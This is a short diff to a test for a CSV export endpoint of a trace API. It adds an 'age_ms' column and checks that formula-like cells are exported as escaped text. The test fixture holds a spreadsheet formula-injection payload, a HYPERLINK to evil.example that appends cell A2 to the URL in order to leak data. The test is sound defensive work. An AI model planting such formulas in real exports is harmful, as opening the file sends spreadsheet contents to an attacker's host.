@@ -221,9 +221,9 @@ describe('GET /api/v1/traces', () => {
   it('exports formula-like cells as text and times as ISO 8601', async () => {
     const text = await (await exportCsv(req('/api/v1/traces/export?plant=3000'))).text()
     const [header, row, ...rest] = text.split('\r\n')
-    expect(header).toBe('correlation_id,origin_time,plant,line,flow,work_order,material,state,e2e_latency_ms,sla_ms,attempts,erp_documents')
+    expect(header).toBe('correlation_id,origin_time,plant,line,flow,work_order,material,state,e2e_latency_ms,sla_ms,attempts,erp_documents,age_ms')
     expect(rest).toEqual([''])
     const origin = new Date(NOW - 40 * MIN).toISOString()
-    expect(row).toBe(`tr-formula,${origin},3000,L01,production_confirmation,'@155000000009,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",posted,${MIN},300000,1,4900001234`)
+    expect(row).toBe(`tr-formula,${origin},3000,L01,production_confirmation,'@155000000009,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",posted,${MIN},300000,1,4900001234,`)
   })
 })
